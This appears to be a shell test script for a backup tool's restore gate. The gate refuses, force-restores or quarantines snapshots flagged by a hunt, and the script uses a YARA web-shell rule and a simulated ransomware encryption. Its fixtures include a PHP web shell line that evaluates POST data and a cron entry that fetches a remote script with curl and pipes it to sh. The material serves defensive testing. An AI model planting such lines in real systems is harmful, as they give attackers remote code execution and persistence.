# The hunt gate of restore: a compromised restore point is refused (exit 8)
# with the clean point to restore instead; --accept-risk restores it anyway;
# --quarantine QDIR restores it without the flagged files, which go to QDIR.
set -u
. "${CR_TESTLIB:?}"

export CLEANROOM_REPO=$SCRATCH/vault
P=$(pwd -P)
S=$P/sys

mkdir -p rules/yara
cat > rules/yara/test.yar <<'EOF'
rule test_php_webshell
{
    meta:
        severity = "high"
        description = "PHP code that evaluates request data (web shell)"
    strings:
        $e = /eval\s*\(\s*\$_(POST|GET|REQUEST)/
    condition:
        $e
}
EOF
printf 'lockbit\n' > rules/ransomware-extensions.txt
printf 'README-DECRYPT.txt\n' > rules/ransom-notes.txt
export CLEANROOM_RULES=$P/rules

expect_exit 0 cr init --kdf interactive
mkdir -p sys/etc/cron.d sys/var/www/html sys/srv/data
printf 'root:x:0:0:root:/root:/bin/bash\n' > sys/etc/passwd
printf '<?php echo "Hello"; ?>\n' > sys/var/www/html/index.php
for i in $(seq 1 60); do printf 'record %d\n' "$i" > "sys/srv/data/r$i.csv"; done
expect_exit 0 cr backup --source web --time 2026-11-01 sys
printf 'record 61\n' > sys/srv/data/r61.csv
expect_exit 0 cr backup --source web --time 2026-11-02 sys
printf "<?php eval(\$_POST['x']); ?>\n" > sys/var/www/html/up.php
printf '* * * * * root curl -s http://203.0.113.9/x | sh\n' > sys/etc/cron.d/sync
expect_exit 0 cr backup --source web --time 2026-11-03 sys
ids() { cr snapshots --json | python3 -c 'import json,sys; print(" ".join(s["id"] for s in json.load(sys.stdin)))'; }
read -r D1 D2 D3 <<<"$(ids)"

# Not hunted yet: a warning, and the restore goes on.
expect_exit 0 cr restore "${D3:0:8}" --target "$SCRATCH/unhunted"
assert_grep "^warning: restore point ${D3:0:8} has not been hunted for indicators of compromise; run 'cleanroom hunt'" \
    "$CR_ERR" "unhunted warning"
[ -f "$SCRATCH/unhunted$S/var/www/html/up.php" ] || fail "unhunted snapshot restored in full"
pass "unhunted: warned, restored"

expect_exit 0 cr hunt

# A clean restore point: no warning at all.
expect_exit 0 cr restore "${D2:0:8}" --target "$SCRATCH/clean"
[ -s "$CR_ERR" ] && { cat "$CR_ERR" >&2; fail "restoring a clean hunted snapshot warns"; }
pass "clean: no warning"

# Compromised: refused, nothing written, the clean point named with the command.
expect_exit 8 cr restore web:latest --target "$SCRATCH/out"
[ ! -e "$SCRATCH/out" ] || fail "a refused restore created the target"
assert_grep "^cleanroom: error: refused: restore point ${D3:0:8} \(web, 2026-11-03T00:00:00Z\) is compromised: [0-9]+ finding\(s\) at or above high; nothing was restored$" \
    "$CR_ERR" "refusal line"
assert_grep "^  high      malware      $S/var/www/html/up.php  yara:test_php_webshell" "$CR_ERR" \
    "refusal lists the web shell"
assert_grep "^The last clean restore point of web is ${D2:0:8} \(2026-11-02T00:00:00Z\). Restore it with:$" \
    "$CR_ERR" "names the clean point"
assert_grep "^  cleanroom restore ${D2:0:8} --target $SCRATCH/out$" "$CR_ERR" "exact command"
assert_grep "^hint: .*--accept-risk.*--quarantine QDIR" "$CR_ERR" "hint names the ways out"
expect_exit 8 cr restore web:latest --target "$SCRATCH/out" --json
python3 - "$CR_OUT" "$D2" "$D3" "$S" <<'PY' || fail "refusal --json"
import json, sys
r = json.load(open(sys.argv[1]))
d2, d3, S = sys.argv[2:]
assert r["refused"] is True and r["snapshot"] == d3 and r["source"] == "web", r
assert any(f["path"] == S + "/var/www/html/up.php" for f in r["flagged"]), r["flagged"]
assert r["clean_point"]["clean_snapshot"] == d2, r["clean_point"]
PY
pass "compromised: refused with exit 8"

# --include: only findings on the included paths count.
expect_exit 0 cr restore web:latest --target "$SCRATCH/data" --include "$S/srv/data"
[ -f "$SCRATCH/data$S/srv/data/r61.csv" ] || fail "--include of a clean folder restored"
assert_grep "holds [0-9]+ more finding\(s\) at or above high outside the included paths" "$CR_ERR" \
    "warning about the findings elsewhere"
expect_exit 8 cr restore web:latest --target "$SCRATCH/www" --include "$S/var/www/"
expect_exit 8 cr restore web:latest --target "$SCRATCH/www" --include "$S/var/www/html/up.php"
expect_exit 8 cr restore web:latest --target "$SCRATCH/www" --include "$S"
[ ! -e "$SCRATCH/www" ] || fail "refused restores wrote nothing"
pass "restore --include: scoped gate"

# --accept-risk: restored in full, loudly.
expect_exit 0 cr restore web:latest --target "$SCRATCH/risk" --accept-risk
assert_grep "^warning: RESTORING A COMPROMISED RESTORE POINT: snapshot ${D3:0:8} holds" "$CR_ERR" \
    "loud warning"
[ -f "$SCRATCH/risk$S/var/www/html/up.php" ] || fail "--accept-risk restores the flagged file"
diff -r sys "$SCRATCH/risk$S" || fail "--accept-risk restores everything"
pass "restore --accept-risk"

# --quarantine: flagged files into QDIR with their paths, not into the target.
expect_exit 0 cr restore web:latest --target "$SCRATCH/q-target" --quarantine "$SCRATCH/q"
[ ! -e "$SCRATCH/q-target$S/var/www/html/up.php" ] || fail "web shell kept out of the target"
[ ! -e "$SCRATCH/q-target$S/etc/cron.d/sync" ] || fail "cron job kept out of the target"
[ -f "$SCRATCH/q-target$S/var/www/html/index.php" ] || fail "the rest of the folder is restored"
[ -f "$SCRATCH/q-target$S/srv/data/r61.csv" ] || fail "the rest is restored"
cmp sys/var/www/html/up.php "$SCRATCH/q$S/var/www/html/up.php" || fail "web shell in quarantine"
cmp sys/etc/cron.d/sync "$SCRATCH/q$S/etc/cron.d/sync" || fail "cron job in quarantine"
[ ! -e "$SCRATCH/q$S/srv" ] || fail "only the flagged files are in quarantine"
assert_grep "^QUARANTINED: 2 flagged item\(s\) restored into $SCRATCH/q instead \(2 files, .*\), not into the target:$" \
    "$CR_OUT" "quarantine summary"
assert_grep "^  $S/var/www/html/up.php  \(high yara:test_php_webshell\)$" "$CR_OUT" "quarantined file and why"
diff -r -x up.php -x sync sys "$SCRATCH/q-target$S" || fail "everything else identical"
expect_exit 0 cr restore web:latest --target "$SCRATCH/q2-target" --quarantine "$SCRATCH/q2" --json
python3 - "$CR_OUT" "$S" "$SCRATCH/q2" <<'PY' || fail "quarantine --json"
import json, sys
r = json.load(open(sys.argv[1]))
S, q = sys.argv[2:]
assert r["hunted"] is True and r["accepted_risk"] is False, r
assert r["quarantine"]["dir"] == q and r["quarantine"]["files"] == 2, r["quarantine"]
assert sorted(r["quarantine"]["paths"]) == [S + "/etc/cron.d/sync", S + "/var/www/html/up.php"], r
assert len(r["flagged"]) >= 2 and r["failed"] == 0, r
PY
expect_exit 2 cr restore web:latest --target "$SCRATCH/t3" --quarantine "$SCRATCH/t3/q"
assert_grep "apart from the target" "$CR_ERR" "quarantine inside the target refused"
expect_exit 2 cr restore web:latest --target "$SCRATCH/t3" --quarantine "$SCRATCH/t3/"
[ ! -e "$SCRATCH/t3" ] || fail "nothing written on a usage error"
# Nothing flagged on a clean snapshot: said so.
expect_exit 0 cr restore "${D2:0:8}" --target "$SCRATCH/c2" --quarantine "$SCRATCH/c2q"
assert_grep "^nothing quarantined: no flagged file on the restored paths$" "$CR_OUT" "nothing to set aside"
pass "restore --quarantine"

# Day 4: ransomware encrypts 25 of the records: a finding about the whole
# snapshot (its change rate), which --quarantine alone cannot set aside.
for i in $(seq 1 25); do
    head -c 4096 /dev/urandom > "sys/srv/data/r$i.csv.lockbit" && rm "sys/srv/data/r$i.csv"
done
expect_exit 11 cr backup --source web --time 2026-11-04 sys
read -r _ _ _ D4 <<<"$(ids)"
expect_exit 0 cr hunt
expect_exit 0 cr findings --snapshot "${D4:0:8}" --min-severity critical --json
python3 - "$CR_OUT" <<'PY' || fail "a change-rate finding about the whole snapshot"
import json, sys
F = json.load(open(sys.argv[1]))["findings"]
assert any(f["path"] == "/" and f["indicator"] == "ransomware:change-rate" for f in F), F
PY
expect_exit 8 cr restore "${D4:0:8}" --target "$SCRATCH/r4" --quarantine "$SCRATCH/q4"
assert_grep "about the whole snapshot, which --quarantine cannot set aside" "$CR_ERR" \
    "quarantine refused for a whole-snapshot finding"
assert_grep "^  critical  ransomware   /  ransomware:change-rate" "$CR_ERR" "the change rate is shown"
assert_grep "^  cleanroom restore ${D2:0:8} --target $SCRATCH/r4$" "$CR_ERR" "clean point still named"
[ ! -e "$SCRATCH/r4" ] && [ ! -e "$SCRATCH/q4" ] || fail "nothing written"
expect_exit 0 cr restore "${D4:0:8}" --target "$SCRATCH/r4" --quarantine "$SCRATCH/q4" --accept-risk
assert_grep "^QUARANTINED: 27 flagged item\(s\) restored into $SCRATCH/q4 instead" "$CR_OUT" \
    "encrypted files, web shell and cron job set aside"
[ -f "$SCRATCH/q4$S/srv/data/r1.csv.lockbit" ] || fail "encrypted file in quarantine"
[ ! -e "$SCRATCH/r4$S/srv/data/r1.csv.lockbit" ] || fail "encrypted file not in the target"
[ -f "$SCRATCH/r4$S/srv/data/r26.csv" ] || fail "intact records restored"
expect_exit 0 cr timeline --source web
assert_grep "^  \+ (high|critical) +ransomware   ransomware:extension on 25 files, e.g. " "$CR_OUT" \
    "25 renames told in one line"
assert_grep "^  \+ critical  ransomware   /  ransomware:change-rate" "$CR_OUT" "change rate in the story"
pass "whole-snapshot finding: --quarantine needs --accept-risk"
